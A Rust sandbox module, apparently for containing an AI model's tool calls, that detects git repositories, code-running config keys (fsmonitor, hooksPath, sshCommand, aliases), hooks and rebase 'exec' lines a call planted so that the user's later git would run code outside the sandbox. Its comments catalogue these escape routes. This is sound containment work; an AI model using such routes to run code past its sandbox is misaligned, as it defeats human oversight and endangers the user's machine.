//! Repositories a call makes, or turns a folder into, inside the writable folders: git run
//! later by the user, outside the sandbox, would take configuration and code to run from them.
//! The repositories found when the session opens are bound read-only (`super::protect_git`);
//! these are the ones a bind cannot reach, because they did not exist yet, so they are checked
//! when each call ends, by a walk of at most [`super::WALK_BUDGET`] entries per folder that
//! lists again only the folders that changed ([`super::tree`]). A repository is what git's own
//! test takes for one ([`is_repository`]: a valid `HEAD`, and `objects` and `refs` that pass
//! `access(X_OK)`, which an executable file or a link to one does, or a `commondir`); a `.git`
//! file, or a `.git` link to a file, is read as git reads it (`link_target`).
//!
//! - **a folder that became a repository** inside the workspace: git run there or below takes
//!   it for a bare repository before it reaches the real `.git` above (and at the root, once
//!   the call broke `.git`), and runs what its `config` names. Its `HEAD` is set aside
//!   (`HEAD.pod-planted`): the folder is no repository any more, and nothing of the project in
//!   it is touched. One named as a repository (`remote.git`, `.git.bak`), where nobody runs
//!   git, is treated as the model's repository instead (below).
//! - **a repository the call made** (a new `.git`, a repository a `.git` file or link points to,
//!   a submodule's under `.git/modules`, one a symlink of the walked folders leads into where
//!   the walk does not go: inside a `.git` (`git init --bare .git/x`, then `src` made a link
//!   to it), another writable folder): the user's git enters it when it is registered in a
//!   known repository's index (a gitlink), lies between where the user runs git and the real
//!   `.git`, or is where a link the user `cd`s through leads. Its `config` is set aside when
//!   it holds anything but [`ALLOWED`] settings (which
//!   run nothing), and a `config` with only those is written in its place, so the model's
//!   repository keeps working; its `hooks` are set aside when they hold a hook; a `commondir`
//!   naming a plain folder of the workspace is set aside. A link (`.git` file or symlink) to a
//!   plain folder of the workspace is set aside too. Repositories outside the workspace (in
//!   `$TMPDIR`, another writable folder) are treated like the model's own: config and hooks.
//! - **a to-do list with commands** in any repository, known or new, in each of its linked
//!   worktrees' folders (`worktrees/*`) and each submodule's repository: an interactive
//!   rebase's `rebase-merge/git-rebase-todo` or the sequencer's `sequencer/todo` holding an
//!   `exec` (`x`) line, which the user's `git rebase --continue` (`cherry-pick`, `revert
//!   --continue`) runs outside the sandbox. Set aside when it was made or changed since the
//!   session opened (its inode, size, modification or change time differ: the change time
//!   cannot be put back); one there at open and unchanged is the user's own operation, left
//!   alone; the operation then stops, and the user sees why. A folder on its way swapped for a
//!   link (`.git/rebase-merge`) is set aside itself.
//!
//! Owns: the inventory taken at open, the check and what it sets aside; renames only, never
//! deletes, each one reported ([`super::planted::Planted`]). Must not touch: mounts (the binds
//! are `super::layout`'s), decisions; it runs no process (git is never run on what a call made).

use std::collections::{HashMap, HashSet};
use std::os::fd::OwnedFd;
use std::path::{Path, PathBuf};

use super::planted::{self, Change, Planted};
use super::tree::{Inventory, Tree};
use crate::permission::path;

/// The settings of a repository's `config` that run nothing: section, key (lower case; a
/// section with a subsection, `remote "origin"`, is named without it). Everything else
/// (`core.fsmonitor`, `core.hooksPath`, `core.sshCommand`, `core.pager`, `alias.*`,
/// `filter.*`, `diff.*`, `include.*`, `credential.*`, …) is left in the copy set aside.
pub const ALLOWED: [(&str, &str); 34] = [
    ("core", "repositoryformatversion"),
    ("core", "filemode"),
    ("core", "bare"),
    ("core", "worktree"),
    ("core", "logallrefupdates"),
    ("core", "ignorecase"),
    ("core", "precomposeunicode"),
    ("core", "symlinks"),
    ("core", "autocrlf"),
    ("core", "eol"),
    ("core", "safecrlf"),
    ("core", "quotepath"),
    ("core", "checkstat"),
    ("core", "trustctime"),
    ("core", "untrackedcache"),
    ("core", "sparsecheckout"),
    ("core", "sparsecheckoutcone"),
    ("core", "abbrev"),
    ("extensions", "objectformat"),
    ("extensions", "refstorage"),
    ("extensions", "compatobjectformat"),
    ("user", "name"),
    ("user", "email"),
    ("init", "defaultbranch"),
    ("remote", "url"),
    ("remote", "pushurl"),
    ("remote", "fetch"),
    ("remote", "push"),
    ("remote", "tagopt"),
    ("remote", "prune"),
    ("branch", "remote"),
    ("branch", "merge"),
    ("branch", "pushremote"),
    ("submodule", "active"),
];

/// The to-do lists git's `--continue` works through, within a repository folder.
const TODOS: [&str; 2] = ["rebase-merge/git-rebase-todo", "sequencer/todo"];
/// Bytes of a to-do list read; a longer one is set aside whole.
const TODO_CAP: u64 = 256 * 1024;

/// Bytes of a `config` read; a longer one is set aside whole.
const CONFIG_CAP: usize = 64 * 1024;
/// Repositories looked into per check (new ones and their submodules and common folders).
const REPOSITORY_CAP: usize = 256;
/// The largest gitfile git reads (its `read_gitfile_gently` refuses a larger one).
const GITFILE_CAP: u64 = 1 << 20;
/// Symlinks of the writable folders resolved by the kernel per check (those that lead out of
/// what the walk lists; the others cost no system call).
const LINK_CAP: usize = 4096;

/// The repository git finds from a folder, with the `.git` file or link that led to it.
type Discovered = Option<(PathBuf, Option<PathBuf>)>;

/// What the check walks and what it found at open.
#[derive(Debug)]
pub struct Repos {
    workspace: PathBuf,
    /// Folders walked: the writable folders inside the workspace (the workspace itself when a
    /// writable folder holds it), and writable folders elsewhere that are or lie inside a
    /// repository at open. Not `$TMPDIR`: git is not run there, and what points there is
    /// followed.
    roots: Vec<PathBuf>,
    /// Every writable folder, `$TMPDIR` included: only what lies in one can be a call's.
    writable: Vec<PathBuf>,
    /// Repository folders at open (those `.git` folders, files and links and the workspace's
    /// symlinks lead to, their submodules'), left as they are.
    known: HashSet<PathBuf>,
    /// The to-do lists there at open ([`TODOS`], the user's own operations, in each known
    /// repository and each of its linked worktrees' folders), as they were.
    todos: HashMap<PathBuf, FileState>,
    /// What the last walk listed. Calls end side by side: one check at a time.
    tree: std::sync::Mutex<Tree>,
}

impl Repos {
    /// The inventory of `writable` (resolved; `tmpdir` among them) at open; `known` are the
    /// repository folders the layout found and binds.
    pub fn open(
        workspace: &Path,
        writable: &[PathBuf],
        tmpdir: Option<&Path>,
        known: &[PathBuf],
    ) -> Repos {
        let mut roots: Vec<PathBuf> = Vec::new();
        for w in writable {
            if tmpdir.is_some_and(|t| w.starts_with(t)) || w.starts_with("/dev") {
                continue;
            }
            let root = if w.starts_with(workspace) {
                Some(w.clone())
            } else if workspace.starts_with(w) {
                Some(workspace.to_path_buf())
            } else if w.join(".git").symlink_metadata().is_ok() || super::inside_a_repository(w) {
                Some(w.clone())
            } else {
                None
            };
            if let Some(r) = root.filter(|r| !roots.contains(r)) {
                roots.push(r);
            }
        }
        // A root inside another is walked with it.
        let all = roots.clone();
        roots.retain(|r| !all.iter().any(|o| o != r && r.starts_with(o)));
        let mut repos = Repos {
            workspace: workspace.to_path_buf(),
            roots,
            writable: writable.to_vec(),
            known: known.iter().cloned().collect(),
            todos: HashMap::new(),
            tree: std::sync::Mutex::new(Tree::new()),
        };
        let inventory = {
            let tree = repos.tree.get_mut().unwrap_or_else(|e| e.into_inner());
            tree.walk(&repos.roots)
        };
        for g in inventory.dot_git.iter().chain(&inventory.candidates) {
            if is_repository(g) {
                repos.known.insert(g.clone());
                for m in submodules(g) {
                    repos.known.insert(m);
                }
            }
        }
        let reached = {
            let tree = repos.tree.lock().unwrap_or_else(|e| e.into_inner());
            let mut seen = HashMap::new();
            inventory
                .links
                .iter()
                .filter_map(|l| link_target(l))
                .filter(|t| is_repository(t))
                .chain(
                    repos
                        .leads(&inventory, &tree)
                        .into_iter()
                        .filter_map(|(_, t)| repos.discover(&t, &mut seen).map(|(g, _)| g)),
                )
                .collect::<Vec<_>>()
        };
        for t in reached {
            for m in submodules(&t) {
                repos.known.insert(m);
            }
            repos.known.insert(t);
        }
        let todos: Vec<(PathBuf, FileState)> = repos
            .known
            .iter()
            .flat_map(|g| admin_folders(g))
            .flat_map(|g| TODOS.map(|t| g.join(t)))
            .filter_map(|t| file_state(&t).map(|s| (t, s)))
            .collect();
        repos.todos.extend(todos);
        repos
    }

    /// The folders the check walks.
    pub fn roots(&self) -> &[PathBuf] {
        &self.roots
    }

    /// Sets aside what of the repositories made since the session opened git would run, and
    /// the `HEAD` of each folder of the workspace that became a repository (module header).
    pub fn check(&self) -> Vec<Planted> {
        let mut tree = self.tree.lock().unwrap_or_else(|e| e.into_inner());
        let started = std::time::Instant::now();
        let inventory = tree.walk(&self.roots);
        let mut run = Run {
            repos: self,
            done: HashSet::new(),
            out: Vec::new(),
        };
        for g in &inventory.dot_git {
            run.repository(g, None, 0);
        }
        // Every link, changed or not: what it points to may have become a repository since.
        for l in &inventory.links {
            if let Some(t) = link_target(l) {
                run.repository(&t, Some(l), 0);
            }
        }
        // Where a symlink leads outside what the walk sees (inside a `.git`, another writable
        // folder): the user's git run there, or below, takes the first repository above for
        // its own.
        let mut seen = HashMap::new();
        for (link, t) in self.leads(&inventory, &tree) {
            if let Some((g, via)) = self.discover(&t, &mut seen) {
                run.repository(&g, Some(via.as_deref().unwrap_or(&link)), 0);
            }
        }
        for d in &inventory.candidates {
            if self.known.contains(d) || !is_repository(d) {
                continue;
            }
            if !self.repository_shaped(d) {
                run.made_a_repository(d);
            } else {
                run.repository(d, None, 0);
            }
        }
        if inventory.truncated {
            tracing::warn!(
                "sandbox: a writable folder has more than {} entries; repositories a call made \
                 past them are not checked",
                super::WALK_BUDGET
            );
        }
        tracing::debug!(
            "sandbox: repositories checked in {} µs ({} folders, {} looked at, {} listed)",
            started.elapsed().as_micros(),
            inventory.folders,
            inventory.stated,
            inventory.listed
        );
        run.out
    }

    fn writable(&self, p: &Path) -> bool {
        self.writable.iter().any(|w| p.starts_with(w))
    }

    /// The folders the symlinks of `inventory` lead to that the walk does not see (inside a
    /// `.git`, outside every walked folder, or anywhere once the walk ran out of budget), each
    /// once, in a writable folder: where the user's git may be run through a link. Each with
    /// the first symlink that leads there.
    /// A symlink whose text leads, step by step, only through folders the walk listed (known
    /// from the walk, no system call) leads where the walk sees already; the others are
    /// resolved by the kernel.
    fn leads(&self, inventory: &Inventory, tree: &Tree) -> Vec<(PathBuf, PathBuf)> {
        let mut seen = HashSet::new();
        let mut out = Vec::new();
        let mut resolved = 0usize;
        for (s, text) in &inventory.symlinks {
            let listed = !inventory.truncated
                && text
                    .as_deref()
                    .is_some_and(|text| self.through_walked(s, text, tree));
            if listed {
                continue;
            }
            resolved += 1;
            if resolved > LINK_CAP {
                tracing::warn!(
                    "sandbox: more than {LINK_CAP} symlinks of the writable folders lead out of \
                     what the walk sees; where the rest lead is not checked"
                );
                break;
            }
            let Some(t) = folder_at(s) else {
                continue;
            };
            let walked = !inventory.truncated
                && self.roots.iter().any(|r| {
                    t.strip_prefix(r)
                        .is_ok_and(|rel| !rel.components().any(|c| c.as_os_str() == ".git"))
                });
            if walked || !self.writable(&t) || !seen.insert(t.clone()) {
                continue;
            }
            out.push((s.clone(), t));
        }
        out
    }

    /// Whether symlink `s` holding `text` leads, as the kernel would follow it, to a folder the
    /// last walk listed, every step on the way being one too (or a folder above a walked
    /// root, which no call can change): then no step is a symlink, so the kernel goes where
    /// the text says.
    fn through_walked(&self, s: &Path, text: &Path, tree: &Tree) -> bool {
        use std::path::Component;
        let Some(mut at) = s.parent().map(Path::to_path_buf) else {
            return false;
        };
        for c in text.components() {
            match c {
                Component::RootDir => at = PathBuf::from("/"),
                Component::CurDir => continue,
                Component::ParentDir => {
                    at.pop();
                }
                Component::Normal(n) => at.push(n),
                Component::Prefix(_) => return false,
            }
            let above = self.roots.iter().any(|r| r.starts_with(&at) && *r != at);
            if !above && !tree.walked(&at) {
                return false;
            }
        }
        tree.walked(&at)
    }

    /// The repository git run in folder `t` takes for its own, as git finds it (in `t` and each
    /// folder above it: a `.git` folder, a `.git` file or link, the folder itself), looked for
    /// only within the writable folders; with the `.git` file or link that led there. `seen`
    /// holds what the folders looked at before found (links often share their folders).
    fn discover(&self, t: &Path, seen: &mut HashMap<PathBuf, Discovered>) -> Discovered {
        let mut passed = Vec::new();
        let mut found = None;
        for a in t.ancestors() {
            if let Some(known) = seen.get(a) {
                found = known.clone();
                break;
            }
            if !self.writable(a) {
                break;
            }
            passed.push(a.to_path_buf());
            let dot = a.join(".git");
            if let Ok(meta) = dot.symlink_metadata() {
                if meta.is_dir() {
                    if is_repository(&dot) {
                        found = Some((dot, None));
                        break;
                    }
                } else if let Some(g) = link_target(&dot).filter(|g| is_repository(g)) {
                    found = Some((g, Some(dot)));
                    break;
                }
            }
            if is_repository(a) {
                found = Some((a.to_path_buf(), None));
                break;
            }
        }
        for a in passed {
            seen.insert(a, found.clone());
        }
        found
    }

    /// A repository folder whose `config` and `hooks` are the model's to keep (set aside only
    /// for what runs code): one called `.git` or inside one (a submodule's, a worktree's), one
    /// named as a repository (`remote.git`, `.git.bak`, `.git-old`, not `.github`: nobody works
    /// inside those), or one
    /// outside the workspace. A plain folder of the workspace used as a repository is not.
    fn repository_shaped(&self, g: &Path) -> bool {
        let named = g.file_name().and_then(|n| n.to_str()).is_some_and(|n| {
            n.ends_with(".git") || [".git.", ".git-", ".git_"].iter().any(|p| n.starts_with(p))
        });
        let root = self
            .writable
            .iter()
            .filter(|w| g.starts_with(w))
            .max_by_key(|w| w.components().count());
        let inside_git = root
            .and_then(|r| g.strip_prefix(r).ok())
            .is_some_and(|rel| rel.components().any(|c| c.as_os_str() == ".git"));
        named || inside_git || !g.starts_with(&self.workspace)
    }
}

/// One check's state.
struct Run<'a> {
    repos: &'a Repos,
    done: HashSet<PathBuf>,
    out: Vec<Planted>,
}

impl Run<'_> {
    /// Repository folder `g`, reached through the link `via` when not a `.git` folder.
    fn repository(&mut self, g: &Path, via: Option<&Path>, depth: usize) {
        if self.done.len() >= REPOSITORY_CAP || depth > 8 || !self.done.insert(g.to_path_buf()) {
            return;
        }
        if self.repos.writable(g) {
            for admin in admin_folders(g) {
                self.todos(&admin);
            }
        }
        if self.repos.known.contains(g) {
            // Bound at open; a submodule's repository made since is not, and a known one's
            // to-do lists are checked.
            for m in submodules(g) {
                self.repository(&m, None, depth + 1);
            }
            return;
        }
        // Outside the writable folders nothing is the call's; a folder that is no repository
        // gives git nothing to run.
        if !self.repos.writable(g) || !is_repository(g) {
            return;
        }
        if !self.repos.repository_shaped(g) {
            // A plain folder of the workspace: the link to it goes, and the folder, when it
            // looks like a repository itself, loses its `HEAD` (the walk finds it).
            if let Some(link) = via {
                self.set_aside(
                    link,
                    Change::Found,
                    format!(
                        "git would take {} for this folder's repository and run what its config \
                         names",
                        g.display()
                    ),
                );
            }
            return;
        }
        self.config(g, "config");
        // Read too once the common config sets `extensions.worktreeConfig`.
        self.config(g, "config.worktree");
        self.hooks(g);
        let commondir = g.join("commondir");
        if commondir.symlink_metadata().is_ok() {
            let named = read_bytes(&commondir, GITFILE_CAP)
                .and_then(|b| git_path(&b))
                .map(|p| path::resolve_in(g, &p));
            match named {
                Some(c) if self.repos.known.contains(&c) || !self.repos.writable(&c) => {}
                Some(c) if self.repos.repository_shaped(&c) => self.repository(&c, None, depth + 1),
                _ => self.set_aside(
                    &commondir,
                    Change::Found,
                    format!(
                        "git would read {}'s configuration and hooks from where it points",
                        g.display()
                    ),
                ),
            }
        }
        for m in submodules(g) {
            self.repository(&m, None, depth + 1);
        }
    }

    /// A folder of the workspace that became a repository: its `HEAD` set aside.
    fn made_a_repository(&mut self, d: &Path) {
        self.set_aside(
            &d.join("HEAD"),
            Change::Found,
            format!(
                "beside `objects` and `refs` it makes {} a repository, which git run there or \
                 below would use (and run what its config names) before the workspace's own",
                d.display()
            ),
        );
    }

    /// `name` (`config`, `config.worktree`) of repository `g`: left alone when it holds only
    /// [`ALLOWED`] settings, else set aside and written again with those.
    fn config(&mut self, g: &Path, name: &str) {
        let Some(dir) = open_dir(g) else {
            return;
        };
        let Ok(stat) = rustix::fs::statat(&dir, name, rustix::fs::AtFlags::SYMLINK_NOFOLLOW) else {
            return;
        };
        let regular =
            rustix::fs::FileType::from_raw_mode(stat.st_mode) == rustix::fs::FileType::RegularFile;
        let text = regular
            .then(|| read_capped(&dir, name, CONFIG_CAP))
            .flatten();
        let sifted = text.as_deref().map(sift);
        if sifted.as_ref().is_some_and(|s| s.dropped.is_empty()) {
            return;
        }
        let (held, kept) = match sifted {
            Some(s) => (format!("naming {}", s.dropped.join(", ")), s.kept),
            None if regular => (
                "a file of more than 64 KiB, or not text".to_string(),
                String::new(),
            ),
            None => ("a link or special file".to_string(), String::new()),
        };
        let path = g.join(name);
        match planted::move_aside(&dir, std::ffi::OsStr::new(name)) {
            Some(new) => {
                let wrote = write_new(&dir, name, &kept);
                if !wrote {
                    tracing::error!(
                        "sandbox: set aside {}, but cannot write its settings back",
                        path.display()
                    );
                }
                self.out.push(Planted {
                    path,
                    moved_to: Some(g.join(new)),
                    held,
                    reader: format!(
                        "the user's git would run what it names on entering {}",
                        g.display()
                    ),
                    change: if wrote {
                        Change::Rewritten
                    } else {
                        Change::Found
                    },
                });
            }
            None => {
                let mut p = planted::unmoved_planted(
                    path,
                    held,
                    "the user's git would run what it names".to_string(),
                );
                p.change = Change::Found;
                self.out.push(p);
            }
        }
    }

    /// `hooks` of repository `g`: set aside when anything in it is a hook git would run (not
    /// a `.sample`), or it is no plain folder.
    fn hooks(&mut self, g: &Path) {
        let hooks = g.join("hooks");
        let Ok(meta) = hooks.symlink_metadata() else {
            return;
        };
        let runnable: Vec<String> = if meta.is_dir() {
            std::fs::read_dir(&hooks)
                .map(|d| {
                    d.flatten()
                        .map(|e| e.file_name().to_string_lossy().into_owned())
                        .filter(|n| !n.ends_with(".sample"))
                        .take(8)
                        .collect()
                })
                .unwrap_or_default()
        } else {
            vec![String::new()]
        };
        if runnable.is_empty() {
            return;
        }
        self.set_aside(
            &hooks,
            Change::Found,
            format!(
                "the user's git would run the hooks in it ({}) in {}",
                runnable.join(", "),
                g.display()
            ),
        );
    }

    /// The to-do lists of repository `g` ([`TODOS`]): set aside when made or changed since the
    /// session opened and holding a command (or not readable as a short text).
    fn todos(&mut self, g: &Path) {
        for rel in TODOS {
            let todo = g.join(rel);
            let Some(state) = file_state(&todo) else {
                continue;
            };
            if self.repos.todos.get(&todo) == Some(&state) {
                continue;
            }
            let (Some(folder), Some(name)) = (todo.parent(), todo.file_name()) else {
                continue;
            };
            let text = open_dir(folder)
                .and_then(|dir| planted::read_start(&dir, name, TODO_CAP + 1))
                .filter(|bytes| bytes.len() as u64 <= TODO_CAP)
                .and_then(|bytes| String::from_utf8(bytes).ok());
            if text.is_some_and(|t| !runs_commands(&t)) {
                continue;
            }
            self.set_aside(
                &todo,
                Change::Found,
                format!(
                    "the user's `git rebase --continue` (or `cherry-pick`, `revert --continue`) in \
                     {} would run its `exec` lines",
                    g.display()
                ),
            );
        }
    }

    fn set_aside(&mut self, p: &Path, change: Change, reader: String) {
        if let Some(mut planted) = planted::set_aside_one(p, reader) {
            planted.change = change;
            self.out.push(planted);
        }
    }
}

/// What tells a file apart from itself later: inode, modification time, size, and change
/// time, which a call can put back no more than the clock (`touch -d` sets the others).
type FileState = (u64, i64, i64, u64, i64, i64);

fn file_state(p: &Path) -> Option<FileState> {
    use std::os::unix::fs::MetadataExt;
    let m = p.symlink_metadata().ok()?;
    Some((
        m.ino(),
        m.mtime(),
        m.mtime_nsec(),
        m.size(),
        m.ctime(),
        m.ctime_nsec(),
    ))
}

/// The folder `p` leads to, resolved by the kernel in one lookup (opened, then named by
/// `/proc/self/fd`: a few system calls however deep, where `realpath` looks at each
/// component); `None` when it leads to no folder.
fn folder_at(p: &Path) -> Option<PathBuf> {
    use std::os::fd::AsRawFd;
    let fd = rustix::fs::open(
        p,
        rustix::fs::OFlags::PATH | rustix::fs::OFlags::DIRECTORY | rustix::fs::OFlags::CLOEXEC,
        rustix::fs::Mode::empty(),
    )
    .ok()?;
    match std::fs::read_link(format!("/proc/self/fd/{}", fd.as_raw_fd())) {
        // (A folder removed since is named `… (deleted)`: looking there finds nothing.)
        Ok(t) if t.is_absolute() => Some(t),
        Ok(_) => None,
        // No `/proc`: resolved component by component.
        Err(_) => std::fs::canonicalize(p).ok().filter(|t| t.is_dir()),
    }
}

/// Repository folder `g` and its linked worktrees' folders (`worktrees/*`, at most 256): where
/// each work tree's operation in progress (a rebase, the sequencer) keeps its to-do list.
fn admin_folders(g: &Path) -> Vec<PathBuf> {
    let mut out = vec![g.to_path_buf()];
    if let Ok(entries) = std::fs::read_dir(g.join("worktrees")) {
        out.extend(
            entries
                .flatten()
                .take(256)
                .filter(|e| e.file_type().is_ok_and(|t| t.is_dir()))
                .map(|e| e.path()),
        );
    }
    out
}

/// Whether a to-do list holds a command git runs (`exec` or `x`, then the command).
fn runs_commands(text: &str) -> bool {
    text.lines()
        .any(|l| matches!(l.split_whitespace().next(), Some("exec" | "x")))
}

/// Whether `g` is a repository folder as git tests one (its `is_git_directory`): a `HEAD` that
/// reads as a symbolic ref or an object name (or is a link), and `objects` and `refs` that
/// pass `access(X_OK)`, all git asks of them (a folder, or an executable file or a link to
/// one), or a `commondir` (whatever it names: a wider test than git's, never a narrower one).
pub fn is_repository(g: &Path) -> bool {
    let head = g.join("HEAD");
    let Ok(meta) = head.symlink_metadata() else {
        return false;
    };
    let valid = meta.file_type().is_symlink()
        || (meta.is_file()
            && read_start(&head).is_some_and(|t| {
                t.starts_with("ref:") || t.bytes().take_while(u8::is_ascii_hexdigit).count() >= 40
            }));
    let searchable =
        |name: &str| rustix::fs::access(g.join(name), rustix::fs::Access::EXEC_OK).is_ok();
    valid
        && ((searchable("objects") && searchable("refs"))
            || g.join("commondir").symlink_metadata().is_ok())
}

/// The repositories of submodules kept under `g` (`modules/…`), at most 256 folders looked at.
fn submodules(g: &Path) -> Vec<PathBuf> {
    let (files, _) = super::git_control_files(g);
    files
        .into_iter()
        .filter(|f| f.file_name().is_some_and(|n| n == "config"))
        .filter_map(|f| f.parent().map(Path::to_path_buf))
        .filter(|r| r != g)
        .collect()
}

/// Where a `.git` file or link points, resolved, as git reads it: a link to a folder is that
/// folder; a file, or a link to one, is a gitfile, read as git's `read_gitfile_gently` reads
/// it ([`git_path`]: `gitdir: ` then the path, relative to the folder holding the `.git`).
fn link_target(l: &Path) -> Option<PathBuf> {
    let parent = l.parent()?;
    // Followed, as git's `stat` follows it; not blocking on a FIFO.
    let fd = rustix::fs::open(
        l,
        rustix::fs::OFlags::RDONLY | rustix::fs::OFlags::NONBLOCK | rustix::fs::OFlags::CLOEXEC,
        rustix::fs::Mode::empty(),
    )
    .ok()?;
    let stat = rustix::fs::fstat(&fd).ok()?;
    match rustix::fs::FileType::from_raw_mode(stat.st_mode) {
        rustix::fs::FileType::Directory => return Some(path::resolve(l)),
        rustix::fs::FileType::RegularFile => {}
        _ => return None,
    }
    let bytes = read_fd(fd, GITFILE_CAP)?;
    let dir = git_path(bytes.strip_prefix(b"gitdir: ")?)?;
    Some(path::resolve_in(parent, &dir))
}

/// A path git reads from a file (a gitfile after its `gitdir: `, a `commondir`): everything,
/// newlines and spaces within included, but the trailing `\n` and `\r`, up to a NUL (where
/// git's C string ends). `None` when empty.
fn git_path(bytes: &[u8]) -> Option<PathBuf> {
    use std::os::unix::ffi::OsStrExt;
    let end = bytes
        .iter()
        .rposition(|b| !matches!(b, b'\n' | b'\r'))
        .map_or(0, |i| i + 1);
    let path = bytes[..end].split(|b| *b == 0).next().unwrap_or_default();
    (!path.is_empty()).then(|| PathBuf::from(std::ffi::OsStr::from_bytes(path)))
}

/// A file of at most `cap` bytes read whole (git refuses a larger gitfile); opened following
/// links, without blocking, and read only when a plain file.
fn read_bytes(p: &Path, cap: u64) -> Option<Vec<u8>> {
    let fd = rustix::fs::open(
        p,
        rustix::fs::OFlags::RDONLY | rustix::fs::OFlags::NONBLOCK | rustix::fs::OFlags::CLOEXEC,
        rustix::fs::Mode::empty(),
    )
    .ok()?;
    let stat = rustix::fs::fstat(&fd).ok()?;
    if rustix::fs::FileType::from_raw_mode(stat.st_mode) != rustix::fs::FileType::RegularFile {
        return None;
    }
    read_fd(fd, cap)
}

/// What `fd` holds, when at most `cap` bytes.
fn read_fd(fd: OwnedFd, cap: u64) -> Option<Vec<u8>> {
    use std::io::Read;
    let mut bytes = Vec::new();
    std::fs::File::from(fd)
        .take(cap + 1)
        .read_to_end(&mut bytes)
        .ok()?;
    (bytes.len() as u64 <= cap).then_some(bytes)
}

/// The first 4 KiB of a file, as text.
/// Opened without blocking (a FIFO a call left there must not hang pod) and read only when a
/// plain file.
fn read_start(p: &Path) -> Option<String> {
    use std::io::Read;
    let fd = rustix::fs::open(
        p,
        rustix::fs::OFlags::RDONLY | rustix::fs::OFlags::NONBLOCK | rustix::fs::OFlags::CLOEXEC,
        rustix::fs::Mode::empty(),
    )
    .ok()?;
    let stat = rustix::fs::fstat(&fd).ok()?;
    if rustix::fs::FileType::from_raw_mode(stat.st_mode) != rustix::fs::FileType::RegularFile {
        return None;
    }
    let mut bytes = Vec::new();
    std::fs::File::from(fd)
        .take(4096)
        .read_to_end(&mut bytes)
        .ok()?;
    Some(String::from_utf8_lossy(&bytes).into_owned())
}

/// `dir` opened with no symlink on the way (a folder swapped for a link gets nothing done).
fn open_dir(dir: &Path) -> Option<OwnedFd> {
    rustix::fs::openat2(
        rustix::fs::CWD,
        dir,
        rustix::fs::OFlags::PATH | rustix::fs::OFlags::DIRECTORY | rustix::fs::OFlags::CLOEXEC,
        rustix::fs::Mode::empty(),
        rustix::fs::ResolveFlags::NO_SYMLINKS | rustix::fs::ResolveFlags::NO_MAGICLINKS,
    )
    .ok()
}

/// `name` in `dir` read whole when at most `cap` bytes, UTF-8; `None` otherwise.
fn read_capped(dir: &OwnedFd, name: &str, cap: usize) -> Option<String> {
    let bytes = super::planted::read_start(dir, name, cap as u64 + 1)?;
    if bytes.len() > cap {
        return None;
    }
    String::from_utf8(bytes).ok()
}

/// Creates `name` in `dir` (never over anything, never through a link) holding `text`.
fn write_new(dir: &OwnedFd, name: &str, text: &str) -> bool {
    use std::io::Write;
    let Ok(fd) = rustix::fs::openat(
        dir,
        name,
        rustix::fs::OFlags::WRONLY
            | rustix::fs::OFlags::CREATE
            | rustix::fs::OFlags::EXCL
            | rustix::fs::OFlags::NOFOLLOW
            | rustix::fs::OFlags::CLOEXEC,
        rustix::fs::Mode::from_raw_mode(0o644),
    ) else {
        return false;
    };
    std::fs::File::from(fd).write_all(text.as_bytes()).is_ok()
}

/// A config split into what runs nothing and what else it holds.
#[derive(Debug, PartialEq, Eq)]
struct Sifted {
    /// The [`ALLOWED`] settings, written back in git's syntax.
    kept: String,
    /// What was left out: settings by name, lines git may read otherwise by number.
    dropped: Vec<String>,
}

/// Reads `text` in a strict subset of git's config syntax: section headers `[name]` and
/// `[name "sub"]`, `key = value` and bare `key` lines, blank lines and whole-line comments,
/// where a value holds no quote, backslash, `#` or `;` (so no escape, continuation or inline
/// comment can make git read it otherwise). Anything else is dropped, and so is every
/// setting under a header that is not read.
fn sift(text: &str) -> Sifted {
    let mut kept = String::new();
    let mut dropped = Vec::new();
    // The current section: (name lower-cased, subsection, whether its header was read).
    let mut section: Option<(String, Option<String>, bool)> = None;
    let mut header_written = false;
    for (n, line) in text.split('\n').enumerate() {
        let line_no = n + 1;
        let trimmed = line.trim_matches([' ', '\t']);
        if trimmed.is_empty() || trimmed.starts_with('#') || trimmed.starts_with(';') {
            if line.chars().any(|c| c.is_control() && c != '\t') {
                dropped.push(format!("line {line_no}"));
            }
            continue;
        }
        if trimmed.starts_with('[') {
            section = Some(match header(trimmed) {
                Some((name, sub)) => (name, sub, true),
                None => {
                    dropped.push(format!("line {line_no}"));
                    (String::new(), None, false)
                }
            });
            header_written = false;
            continue;
        }
        let Some((name, sub, read)) = &section else {
            dropped.push(format!("line {line_no}"));
            continue;
        };
        let Some((key, value, plain)) = entry(trimmed) else {
            dropped.push(format!("line {line_no}"));
            continue;
        };
        let full = match sub {
            Some(s) => format!("{name}.{s}.{key}"),
            None => format!("{name}.{key}"),
        };
        let allowed = *read
            && plain
            && ALLOWED.iter().any(|(s, k)| *s == name && *k == key)
            && safe_value(name, &key, value);
        if !allowed {
            dropped.push(if *read {
                full
            } else {
                format!("line {line_no}")
            });
            continue;
        }
        if !header_written {
            match sub {
                Some(s) => kept.push_str(&format!("[{name} \"{s}\"]\n")),
                None => kept.push_str(&format!("[{name}]\n")),
            }
            header_written = true;
        }
        match value {
            Some(v) => kept.push_str(&format!("\t{key} = {v}\n")),
            None => kept.push_str(&format!("\t{key}\n")),
        }
    }
    let mut seen = HashSet::new();
    dropped.retain(|d| seen.insert(d.clone()));
    Sifted { kept, dropped }
}

/// `[name]` or `[name "sub"]`: the name lower-cased (letters, digits, `-`), the subsection
/// (no quote, backslash or control character).
fn header(line: &str) -> Option<(String, Option<String>)> {
    let inner = line.strip_prefix('[')?.strip_suffix(']')?;
    let (name, sub) = match inner.split_once(' ') {
        Some((name, rest)) => {
            let sub = rest.strip_prefix('"')?.strip_suffix('"')?;
            if sub.is_empty() || sub.chars().any(|c| c == '"' || c == '\\' || c.is_control()) {
                return None;
            }
            (name, Some(sub.to_string()))
        }
        None => (inner, None),
    };
    let word = !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '-');
    word.then(|| (name.to_ascii_lowercase(), sub))
}

/// `key = value` or a bare `key`: the key lower-cased (a letter, then letters, digits, `-`),
/// the value trimmed, and whether the value is plain (holds nothing git reads specially).
fn entry(line: &str) -> Option<(String, Option<&str>, bool)> {
    let (key, value) = match line.split_once('=') {
        Some((k, v)) => (
            k.trim_end_matches([' ', '\t']),
            Some(v.trim_matches([' ', '\t'])),
        ),
        None => (line, None),
    };
    let mut chars = key.chars();
    let word = chars.next().is_some_and(|c| c.is_ascii_alphabetic())
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '-');
    let plain = value.is_none_or(|v| {
        !v.chars()
            .any(|c| matches!(c, '"' | '\\' | '#' | ';') || c.is_control())
    });
    word.then(|| (key.to_ascii_lowercase(), value, plain))
}

